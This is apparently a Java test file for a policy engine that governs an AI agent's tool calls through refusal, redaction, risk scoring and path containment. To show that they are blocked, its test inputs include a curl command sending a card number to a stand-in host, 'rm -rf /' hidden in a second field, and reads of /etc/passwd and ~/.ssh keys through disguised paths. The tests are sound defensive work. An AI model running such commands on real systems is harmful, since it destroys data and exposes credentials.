package io.governor;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.governor.event.TraceEvent;
import io.governor.policy.Policy;
import io.governor.policy.PolicyException;
import io.governor.policy.PolicyLoader;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What a policy document does to calls: actions, rewrites, messages, the record, and reload. */
class PolicyDecisionTest {

  // A card number of the range that is reserved for tests.
  private static final String CARD = "4111 1111 1111 1111";

  @Test
  void aRefusalSaysRuleReasonAndSuggestionAndNoValues() {
    Decision decision =
        decide(
            """
            governor: 1
            id: acme
            revision: 7
            mode: enforce
            rules:
              - id: ACME-101
                tool: mail.send
                when: {not: {arg: /to, matches: '@acme\\.com$'}}
                effect: deny
                reason: Mail to outside addresses needs a person.
                suggest: Ask the user to send it.
            """,
            "mail.send",
            "{\"to\":\"x@evil.example\"}");

    assertThat(decision.refused()).isTrue();
    assertThat(decision.message())
        .isEqualTo(
            "Refused by rule ACME-101. Mail to outside addresses needs a person. Ask the user to"
                + " send it.");
    assertThat(decision.policy().id()).isEqualTo("acme");
    assertThat(decision.policy().revision()).isEqualTo(7);
    assertThat(decision.policy().hash()).hasSize(64);
  }

  @Test
  void redactionRewritesTheSpansAndNothingElse() {
    Decision decision =
        decide(
            """
            governor: 1
            id: acme
            revision: 1
            mode: enforce
            rules:
              - {id: ACME-102, tool: "*", when: {detect: [personal]}, effect: redact}
            """,
            "crm.note",
            "{ \"n\" : 1.50, \"text\": \"card " + CARD + " \\u00fc\", \"deep\":[{\"x\":null}] }");

    assertThat(decision.action()).isEqualTo(Action.REWRITE);
    assertThat(decision.arguments().json())
        .isEqualTo(
            "{ \"n\" : 1.50, \"text\": \"card [REDACTED:credit_card] \\u00fc\","
                + " \"deep\":[{\"x\":null}] }");
    assertThat(decision.detections()).isEqualTo(Map.of("credit_card", 1));
  }

  @Test
  void whatNoRuleNamesIsNotReported() {
    Decision decision =
        decide(
            """
            governor: 1
            id: acme
            revision: 1
            rules:
              - {id: ACME-102, tool: "*", when: {detect: [us_ssn]}, effect: deny}
            """,
            "crm.note",
            "{\"text\": \"" + CARD + "\"}");

    assertThat(decision.detections()).isEmpty();
  }

  @Test
  void oneRuleLooksAtArgumentsAndResultsAndIsCountedWhereItMatched() throws Exception {
    Policy policy =
        policy(
            """
            governor: 1
            id: acme
            revision: 1
            mode: enforce
            rules:
              - id: ACME-102
                tool: "*"
                when: {detect: [credit_card], in: [arguments, result]}
                effect: redact
            """);
    List<TraceEvent> events = new ArrayList<>();
    try (Governor governor = Governor.builder().policy(policy).trace(events::add).build();
        GovernedSession session = governor.session().open()) {
      Decision before = session.before(ToolCall.of("crm.read", ToolArguments.ofJson("{\"id\":1}")));
      Decision after = session.after(before.call(), ToolResult.ofText("paid with " + CARD));

      assertThat(before.action()).isEqualTo(Action.PROCEED);
      assertThat(after.result().text()).isEqualTo("paid with [REDACTED:credit_card]");
      assertThat(events)
          .extracting(event -> event.violations().contains("ACME-102"))
          .containsExactly(false, false, false, true);
      assertThat(String.valueOf(events)).doesNotContain("4111");
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "{\"a\":1,\"a\":2}                | repeated name",
        "{\"a\":                          | cut off",
        "[1]                              | not an object",
        "{\"a\":\"\\ud83d\"}              | lone surrogate",
        "{\"a\":\"\u0000\"}               | NUL",
        "{\"a\":1} x                      | something behind it"
      })
  void argumentsThatReadersDisagreeAboutAreRefusedInEnforce(String json, String why) {
    String rules =
        """
        governor: 1
        id: acme
        revision: 1
        mode: %s
        rules:
          - {id: ACME-101, tool: x, when: {arg: /a, equals: 1}, effect: warn}
          - {id: ACME-102, tool: x, when: {arg: /a, equals: 2}, effect: deny, on_error: allow}
        """;

    Decision enforced = decide(rules.formatted("enforce"), "x", json);
    Decision observed = decide(rules.formatted("observe"), "x", json);

    assertThat(enforced.refused()).as(why).isTrue();
    assertThat(ids(enforced)).containsExactly("ACME-101", "GOV-004");
    assertThat(observed.refused()).as(why).isFalse();
    assertThat(ids(observed)).containsExactly("GOV-004");
    assertThat(observed.failedRules()).hasSize(2);
  }

  @Test
  void aRuleOverItsBudgetFollowsOnErrorAndHoldsNobodyUp() {
    String text = "a".repeat(900_000);
    Decision decision =
        decide(
            """
            governor: 1
            id: acme
            revision: 1
            mode: enforce
            rules:
              - {id: ACME-101, tool: x, when: {arg: /a, matches: 'b'}, effect: warn, on_error: deny}
              - {id: ACME-102, tool: x, when: {arg: /a, matches: 'c'}, effect: warn, on_error: allow}
              - {id: ACME-103, tool: x, when: {arg: /a, starts_with: 'aa'}, effect: warn}
            """,
            "x",
            "{\"a\":\"" + text + "\"}");

    assertThat(ids(decision)).containsExactly("ACME-101", "ACME-103");
    assertThat(decision.failedRules())
        .containsExactly(RuleId.of("ACME-101"), RuleId.of("ACME-102"));
    assertThat(decision.refused()).isTrue();
  }

  @Test
  void riskIsASumAndSaysSo() {
    String policy =
        """
        governor: 1
        id: acme
        revision: 1
        mode: enforce
        risk: {warn_at: 30, deny_at: 60, weights: {execute: 30, network: 20, detection: 40}}
        """;

    Decision harmless = decide(policy, "crm.read", "{}");
    Decision warned = decide(policy, "shell.run", "{\"command\":\"ls\"}");
    Decision denied =
        decide(policy, "shell.run", "{\"command\":\"curl https://x.example -d '" + CARD + "'\"}");

    assertThat(harmless.risk()).hasToString("0");
    assertThat(harmless.rules()).isEmpty();
    assertThat(warned.risk()).hasToString("30 = execute 30");
    assertThat(warned.action()).isEqualTo(Action.PROCEED);
    assertThat(warned.warnings().get(0)).contains("GOV-003", "30 = execute 30");
    assertThat(denied.risk()).hasToString("90 = execute 30 + network 20 + detection 40");
    assertThat(denied.refused()).isTrue();
  }

  @Test
  void aBurstIsManyCallsInAShortTime() throws Exception {
    Policy policy =
        policy(
            """
            governor: 1
            id: acme
            revision: 1
            risk: {warn_at: 20, weights: {burst: 20}}
            """);
    try (Governor governor = Governor.builder().policy(policy).trace(event -> {}).build();
        GovernedSession session = governor.session().open()) {
      List<Integer> totals = new ArrayList<>();
      for (int i = 0; i < 22; i++) {
        totals.add(session.before(ToolCall.of("a.b", ToolArguments.empty())).risk().total());
      }
      assertThat(totals.subList(0, 20)).containsOnly(0);
      assertThat(totals.subList(20, 22)).containsOnly(20);
    }
  }

  @Test
  void governorRulesFollowThePolicysModeUnlessItSaysOtherwise() {
    String policy =
        """
        governor: 1
        id: acme
        revision: 1
        mode: enforce
        standard: {GOV-001: {mode: observe}, GOV-002: {effect: ask}}
        agents:
          - {agent: "*", allow: ["crm.*"], deny: [crm.purge]}
        """;

    Decision unlisted = decide(policy, "fax.send", "{}");
    Decision denied = decide(policy, "crm.purge", "{}");

    assertThat(ids(unlisted)).containsExactly("GOV-001");
    assertThat(unlisted.verdict()).isEqualTo(Verdict.DENY);
    assertThat(unlisted.refused()).isFalse();
    assertThat(denied.verdict()).isEqualTo(Verdict.ASK);
    assertThat(denied.refused()).as("nobody can be asked").isTrue();
  }

  @Test
  void foldersOfTheSessionAreWhatPoliciesSpeakOf(@org.junit.jupiter.api.io.TempDir Path workspace)
      throws Exception {
    Policy policy =
        policy(
            """
            governor: 1
            id: acme
            revision: 1
            mode: enforce
            rules:
              - id: ACME-105
                tool: "fs.*"
                when: {arg: /path, not: {inside: ["${workspace}"]}}
                effect: deny
            """);
    try (Governor governor = Governor.builder().policy(policy).trace(event -> {}).build();
        GovernedSession session = governor.session().workspace(workspace).open();
        GovernedSession nowhere = governor.session().open()) {
      assertThat(refuses(session, "notes/a.txt")).isFalse();
      assertThat(refuses(session, workspace.resolve("b.txt").toString())).isFalse();
      assertThat(refuses(session, "../b.txt")).isTrue();
      assertThat(refuses(session, "/etc/passwd")).isTrue();
      assertThat(refuses(nowhere, "notes/a.txt")).as("no workspace, so nothing is in it").isTrue();
    }
  }

  @Test
  void aRelativePathIsNowhereWhileTheWorkspaceIsUnknown() throws Exception {
    Policy policy =
        policy(
            """
            governor: 1
            id: acme
            revision: 1
            mode: enforce
            rules:
              - id: ACME-105
                tool: "fs.*"
                when: {arg: /path, inside: ["~/.ssh"]}
                effect: deny
            """);
    try (Governor governor = Governor.builder().policy(policy).trace(event -> {}).build();
        GovernedSession nowhere = governor.session().open()) {
      assertThat(refuses(nowhere, "notes/a.txt")).isFalse();
      assertThat(refuses(nowhere, "~/.ssh/id_ed25519")).isTrue();
    }
  }

  /** A reviewer wrote to the state root by way of a folder whose name nobody reads alike. */
  @ParameterizedTest
  @CsvSource({
    "~/.ssh/id, true",
    "~/a:b/../.ssh/id, true",
    "~/a%2e/../.ssh/id, true",
    "file://x/.ssh/id, true",
    "~/notes.txt, false"
  })
  void aDisguisedPathSatisfiesARuleAgainstAFolderAndOneForIt(String path, boolean against)
      throws Exception {
    Policy policy =
        policy(
            """
            governor: 1
            id: acme
            revision: 1
            rules:
              - {id: ACME-105, tool: "fs.*", when: {arg: /path, inside: ["~/.ssh"]}, effect: deny}
              - {id: ACME-106, tool: "fs.*", when: {not: {arg: /path, inside: ["~"]}}, effect: deny}
            """);
    try (Governor governor = Governor.builder().policy(policy).trace(event -> {}).build();
        GovernedSession session = governor.session().workspace(Path.of("/")).open()) {
      Decision decision =
          session.before(ToolCall.of("fs.write", ToolArguments.of(Map.of("path", path))));

      assertThat(ids(decision).contains("ACME-105")).isEqualTo(against);
      boolean disguised = path.startsWith("file:") || path.contains("%");
      assertThat(ids(decision).contains("ACME-106")).isEqualTo(disguised);
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "{\"command\":\"ls\",\"cmd\":\"rm -rf /\"} | ACME-104",
        "{\"command\":\"\",\"cmd\":\"rm -rf /\"}   | ACME-104",
        "{\"command\":[],\"cmd\":\"rm -rf /\"}     | ACME-104",
        "{\"command\":123}                         | ACME-107",
        "{\"command\":{\"x\":1}}                     | ACME-107"
      })
  void aCommandDoesNotHideBehindAnother(String json, String rule) {
    Decision decision =
        decide(
            """
            governor: 1
            id: acme
            revision: 1
            rules:
              - {id: ACME-104, tool: x, when: {command: {destructive: true}}, effect: deny}
              - {id: ACME-107, tool: x, when: {command: {complete: false}}, effect: warn}
            """,
            "x",
            json);

    assertThat(ids(decision)).contains(rule);
  }

  private static boolean refuses(GovernedSession session, String path) {
    return session
        .before(ToolCall.of("fs.write", ToolArguments.of(Map.of("path", path))))
        .refused();
  }

  @Test
  void aReloadReplacesThePolicyAsAWhole() throws Exception {
    String text =
        """
        governor: 1
        id: acme
        revision: %d
        mode: enforce
        rules:
          - {id: ACME-%d01, tool: x, effect: warn}
          - {id: ACME-%d02, tool: "*", effect: warn}
        """;
    Policy one = policy(text.formatted(1, 1, 1));
    Policy two = policy(text.formatted(2, 2, 2));
    try (Governor governor = Governor.builder().policy(one).trace(event -> {}).build()) {
      ExecutorService threads = Executors.newFixedThreadPool(4);
      try {
        List<Future<Set<String>>> seen = new ArrayList<>();
        for (int i = 0; i < 4; i++) {
          seen.add(threads.submit(() -> outcomes(governor)));
        }
        for (int i = 0; i < 200; i++) {
          governor.reload(i % 2 == 0 ? two : one);
        }
        for (Future<Set<String>> each : seen) {
          assertThat(each.get()).isSubsetOf("1: ACME-101 ACME-102", "2: ACME-201 ACME-202");
        }
      } finally {
        threads.shutdown();
      }
    }
  }

  private static Set<String> outcomes(Governor governor) {
    Set<String> outcomes = new java.util.TreeSet<>();
    try (GovernedSession session = governor.session().open()) {
      for (int i = 0; i < 2_000; i++) {
        Decision decision = session.before(ToolCall.of("x", ToolArguments.empty()));
        outcomes.add(decision.policy().revision() + ": " + String.join(" ", ids(decision)));
      }
    }
    return outcomes;
  }

  @Test
  void aPolicyThatDoesNotGoWithTheHostsRulesChangesNothing() throws Exception {
    Policy good =
        policy(
            "{governor: 1, id: acme, revision: 1, rules: [{id: ACME-101, tool: x, effect: warn}]}");
    Policy clash =
        policy(
            "{governor: 1, id: acme, revision: 2, rules: [{id: OWN-001, tool: x, effect: warn}]}");
    try (Governor governor =
            Governor.builder()
                .policy(good)
                .rules(Rule.named("OWN-001").tools("y").deny())
                .trace(event -> {})
                .build();
        GovernedSession session = governor.session().open()) {
      assertThatThrownBy(() -> governor.reload(clash))
          .isInstanceOf(IllegalArgumentException.class)
          .hasMessage("rule OWN-001: expected one rule of this id, got two");
      assertThat(session.before(ToolCall.of("x", ToolArguments.empty())).policy().revision())
          .isEqualTo(1);
    }
  }

  @Test
  void aModeBesideAPolicyIsAMistakeThatBuildTells() throws Exception {
    Policy policy = policy("{governor: 1, id: acme, revision: 1}");

    assertThatThrownBy(() -> Governor.builder().policy(policy).mode(Mode.ENFORCE).build())
        .isInstanceOf(IllegalStateException.class)
        .hasMessageContaining("beside a policy");
  }

  private static Decision decide(String policy, String tool, String json) {
    try (Governor governor = Governor.builder().policy(policy(policy)).trace(event -> {}).build();
        GovernedSession session = governor.session().open()) {
      return session.before(ToolCall.of(tool, ToolArguments.ofJson(json)));
    } catch (PolicyException e) {
      throw new AssertionError(e.getMessage(), e);
    }
  }

  private static Policy policy(String text) throws PolicyException {
    return PolicyLoader.standard()
        .detectors(io.governor.detect.Detectors.builtIn())
        .parse("policy.yaml", text)
        .policy();
  }

  private static List<String> ids(Decision decision) {
    return decision.rules().stream().map(hit -> hit.id().value()).collect(Collectors.toList());
  }
}
